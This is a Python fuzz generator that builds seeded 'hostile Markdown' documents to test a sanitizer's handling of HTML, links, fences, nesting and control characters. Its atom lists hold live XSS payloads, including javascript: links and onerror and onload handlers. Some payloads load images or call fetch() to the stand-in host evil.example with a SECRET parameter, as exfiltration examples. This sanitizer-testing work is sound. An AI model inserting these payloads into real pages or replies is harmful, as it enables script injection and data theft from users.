"""Hostile Markdown: a seeded generator of replies built from the atoms that broke or could break a sanitizer.

Every document joins random atoms with random separators: each Unicode line and paragraph separator, every C0
and C1 control character, fences of every shape, HTML blocks and inline tags, link and image destinations in
every disguise, reference definitions (escaped brackets in labels included), deep nesting past parser limits,
math, tables and plain text. `documents(n, seed)` is deterministic, so a failure names a reproducible document.
"""

import random

SEPARATORS = ['\n', '\n\n', '\r\n', '\r', '\x0b', '\x0c', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029', ' ', '',
              '\t', '\u200b', '\ufeff']
CONTROLS = [chr(c) for c in [*range(0x00, 0x20), *range(0x7f, 0xa0)]]
FENCES = ['```', '~~~', '````', '```python', '``` x`', '~~~ `', '```html', '   ```', '    ', '\t', '```\u2028',
          '```mermaid', '```py"onmouseover=alert(1)']
HTML = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>x</script>',
        '<a href="javascript:alert(1)">x</a>', '<!-- c', '-->', '<!-- c -->', '<details open ontoggle=alert(1)>',
        '<iframe src="javascript:alert(1)">', '<style>*{background:url(//evil/x)}</style>', '<b onmouseover=alert(1)>b</b>',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<div>', '</div>', '<pre>', '</pre>', '<textarea>',
        '<?php x ?>', '<![CDATA[x]]>', '<x-y onclick=1>', '<img/src=x/onerror=alert(1)>', '<IMG SRC=javascript:alert(1)>',
        '<a href=" &#14;  javascript:alert(1)">x</a>', '<object data="data:text/html,x">', '<table background=javascript:x>',
        '<form action=javascript:alert(1)><button>x</button>', '<input onfocus=alert(1) autofocus>', '<base href=//evil/>',
        '<link rel=import href=//evil>', '<meta http-equiv=refresh content="0;javascript:x">', '<video poster=//evil/x>']
LINKS = ['[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](javascript&#58;alert(1))',
         '[x](&#x6A;avascript:alert(1))', '[x](java\nscript:alert(1))', '[x](<javascript:alert(1)>)',
         '[x]( javascript:alert(1))', '[x](vbscript:msgbox(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)',
         '![x](http://evil.example/p.png?q=SECRET)', '![x](//evil.example/p.png)', '![x](https:\\/\\/evil.example/p.png)',
         '[x](' + '(' * 40 + 'javascript:alert(1)' + ')' * 40 + ')', '[x](' + '(' * 33 + 'javascript:alert(1))',
         '<javascript:alert(1)>', '<http://example.com/a_b>', '[x](http://example.com "t")', '[x](<a b> "t")',
         '[x](java\tscript:alert(1))', '[x](\x00javascript:alert(1))', '[x](%6Aavascript:alert(1))',
         '![x](data:image/svg+xml,<svg onload=alert(1)>)', '[![x](http://evil/p.png)](http://example.com)',
         'http://evil.example/a_b_(c)', 'www.evil.example/x?y=<b>', 'mailto:a@b.c', '[x](mailto:a@b.c)']
REFS = ['[r]: javascript:alert(1)', '[a\\]b]: javascript:alert(1)', '[a\\]b]', '[x][r]', '[r]', '![x][img]',
        '[img]: http://evil.example/p.png', '[r]: <javascript:alert(1)>', '[R]: data:text/html,x', '[x][R]',
        '[a\\\\]: javascript:alert(1)', '[a\\\\]']
NESTING = ['>' * 50, '> ' * 30, '- ' * 30, '1. ' * 20, '*' * 50, '_' * 50, '[' * 40, ']' * 40, '`' * 40, '(' * 40,
           '    ' * 10, '\\' * 9, '*' * 3 + 'x' + '*' * 3]
MATH = ['$', '$$', '\\(', '\\)', '\\[', '\\]', '$x<y$', '$$<img src=x onerror=1>$$', '\\(<script>\\)', '$5', '$a_1$',
        '$\\href{javascript:alert(1)}{x}$', '$`x`$', '$](javascript:alert(1))$']
TABLE = ['|', '| a | b |', '|---|---|', '|:-:|--:|', '| <img src=x onerror=1> |', '| `|` |']
CODE = ['`<img src=x onerror=alert(1)>`', '``<script>x</script>``', '`x`', '` `` `', '`', '``',
        '$`<img src=x onerror=1>`$']
URLISH = ['ftp://x', 'http://x.y/z', 'https://a.b', 'www.a', 'www.example.com', 'foo.com', 'example.org/p', 'a@b.c',
          'mailto:', 'xmpp:a@b.c', 'x:', 'a.b', '://']
TEXT = ['hello', 'x < y & z', 'a_b_c', 'www.example.com', '&amp;', '&#60;script&#62;', '&lt;img src=x onerror=1&gt;',
        '#', '##', '-', '+', '=', '===', '---', '***', '1.', '2)', '- [ ] task', 'é', '🙂', '\\', '\\<', '\\`',
        'ftp://x', 'a@b.c', '!', ':', '"', "'", '=', '<', '>', '&', '<b', '</', '<!--', '<?']
ATOMS = [*FENCES, *HTML, *LINKS, *REFS, *NESTING, *MATH, *TABLE, *CODE, *URLISH, *TEXT]


def document(rng:random.Random, atoms:int=12)->str:
    "One hostile document: `atoms` random atoms, each followed by nothing, a separator or a control character."
    parts = []
    for _ in range(rng.randint(1, atoms)):
        parts.append(rng.choice(ATOMS))
        r = rng.random()
        parts.append('' if r < 0.3 else rng.choice(SEPARATORS) if r < 0.85 else rng.choice(CONTROLS))   # atoms touch
    return ''.join(parts)


def documents(n:int, seed:int=0)->list:
    "`n` hostile documents, the same for the same seed."
    rng = random.Random(seed)
    return [document(rng) for _ in range(n)]


# ---- every construct, repeated, nested and left unclosed: what the parser's cost and depth are tested on

INLINE = {   # name: (opener, closer) of an inline construct
    'em *': ('*', '*'), 'em _': ('_', '_'), 'strong **': ('**', '**'), 'strong __': ('__', '__'), 'strike ~~': ('~~', '~~'),
    'link': ('[', '](http://a.example/b)'), 'image': ('![', '](p.png)'), 'reference link': ('[', '][r]'),
    'link title': ('[x](http://a.example "', '")'), 'link parens': ('[x](http://a.example/(', '))'),
    'code span': ('`', '`'), 'double code span': ('``', '``'), 'autolink': ('<http://a.example/', '>'),
    'url': ('http://a.example/', ' '), 'entity': ('&#', ';'), 'named entity': ('&amp', ';'),
    'html inline': ('<b title="', '">'), 'html comment': ('<!--', '-->'), 'escape': ('\\', '\\'),
    'math $': ('$', '$'), 'math $$': ('$$', '$$'), 'math \\(': ('\\(', '\\)'), 'math \\[': ('\\[', '\\]'),
    'hard break': ('a  ', '\n'),
}
BLOCK = {   # name: (what starts a line, what ends the construct)
    'quote': ('> ', ''), 'list -': ('- ', ''), 'list *': ('* ', ''), 'list 1.': ('1. ', ''), 'heading': ('# ', ''),
    'setext': ('', '\n==='), 'fence': ('```\n', '\n```'), 'tilde fence': ('~~~~\n', '\n~~~~'), 'indented code': ('    ', ''),
    'table': ('| a | b |\n|---|---|\n| ', ' |'), 'html block': ('<div>\n', '\n</div>'), 'html comment block': ('<!--\n', '\n-->'),
    'reference': ('[r]: http://a.example/', ''), 'hr': ('***\n', ''),
    'list in quote': ('> - ', ''), 'quote in list': ('- > ', ''), 'ordered in bullet': ('- 1. ', ''),
}


def construct(name:str, form:str, size:int)->str:
    """About `size` characters of construct `name` (of `INLINE` or `BLOCK`) in `form`: 'repeated' (closed, over and
    over), 'nested' (openers, a word, closers: as deep as the size allows) or 'unclosed' (openers that never close)."""
    opener, closer = INLINE[name] if name in INLINE else BLOCK[name]
    block = name in BLOCK
    if form == 'repeated': unit = opener + 'a1 b' + closer + ('\n\n' if block else ' ')
    elif form == 'unclosed': unit = opener + 'a=' + ('\n' if block else '')
    else:
        k = max(1, (size - 1) // max(1, len(opener) + len(closer)))
        return opener * k + 'a' + closer * k
    return (unit * (size // len(unit) + 1))[:size]


CONSTRUCTS = [(name, form) for name in [*INLINE, *BLOCK] for form in ('repeated', 'nested', 'unclosed')]


# ---- layouts: where a frontend that cut the Markdown itself went wrong, with hostile HTML in and around code

PAYLOADS = ['<img src="http://evil.example/img?d=SECRET">', '<img src=//evil.example/pr>', '<img src="\\\\evil.example\\bs">',
            '<video poster="http://evil.example/poster"></video>', '<div style="background:url(http://evil.example/s)">x</div>',
            '<img srcset="http://evil.example/srcset 1x" src="ok.png">', '<svg><image href="http://evil.example/svg"/></svg>',
            '<link rel="stylesheet" href="http://evil.example/l.css">', '<input type="image" src="http://evil.example/in">',
            '<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}</style>', '<base href="http://evil.example/">',
            '<meta http-equiv="refresh" content="0;url=http://evil.example/m">', '<iframe src="http://evil.example/if">',
            '<img src=x onerror="fetch(\'http://evil.example/js\')">', '![x](http://evil.example/md)', '![x](//evil.example/md)']
LIST_MARKERS = ['- ', '* ', '+ ', '1. ', '2) ', '10. ']
FENCE_FORMS = [('```', '```'), ('~~~', '~~~'), ('````', '````'), ('~~~~~', '~~~~~'), ('```html', '```'), ('```', None),
               ('~~~', None)]   # None: never closed
HTML_BLOCKS = ['<script>\n{}\n</script>', '<pre>\n{}\n</pre>', '<style>\n{}\n</style>', '<textarea>\n{}\n</textarea>',
               '<!--\n{}\n-->', '<?\n{}\n?>', '<!X\n{}\n>', '<![CDATA[\n{}\n]]>', '<div>\n{}\n</div>', '<table>\n{}\n</table>',
               '<x-custom>\n{}', '<span>\n{}']   # the seven CommonMark types (6 and 7 twice)
LINE_BREAKS = ['\n', '\n\n', '\n\n\n', '\n  \n', '\n\t\n', '\n \n\n']


def _nest(text, marker):
    "`text` as the content of a list item (`marker` a list marker) or a block quote (`marker` '> ')."
    pad = '> ' if marker.startswith('>') else ' ' * len(marker)
    lines = text.split('\n')
    return '\n'.join([marker + lines[0]] + [(pad + ln) if ln or pad == '> ' else ln for ln in lines[1:]])


def _code(rng, body):
    "`body` in a code block of some form: a fence (closed or not), indented code, or a code span."
    r = rng.random()
    if r < 0.75:
        open_, close = rng.choice(FENCE_FORMS)
        inner = rng.choice(['', 'x = 1\n', 'x = 1\n\n', '\n']) + body + rng.choice(['', '\n', '\n\n'])
        return f'{open_}\n{inner}' + (f'\n{close}' if close else '')
    if r < 0.9: return '\n'.join('    ' + ln for ln in body.split('\n'))
    return f'`{body}`'


def layout(rng)->str:
    "One layout: blocks of every kind (code first in list items, nested lists and quotes, HTML blocks) with payloads."
    parts = []
    for _ in range(rng.randint(2, 5)):
        payload, r = rng.choice(PAYLOADS), rng.random()
        if r < 0.45: block = _code(rng, payload)
        elif r < 0.6: block = rng.choice(HTML_BLOCKS).format(payload)
        elif r < 0.7: block = payload
        else: block = rng.choice(['text', 'a *b* c', '| a | b |\n|---|---|\n| 1 | ' + payload + ' |', '# heading', '---'])
        for _ in range(rng.choice([0, 0, 1, 1, 2, 3])):   # code first in a list item, lists in quotes, quotes in lists
            block = _nest(block, rng.choice(LIST_MARKERS + ['> ', '>']))
        parts.append(block)
    return ''.join(p + rng.choice(LINE_BREAKS) for p in parts)


def layouts(n:int, seed:int=0)->list:
    "`n` layouts, the same for the same seed."
    rng = random.Random(seed)
    return [layout(rng) for _ in range(n)]
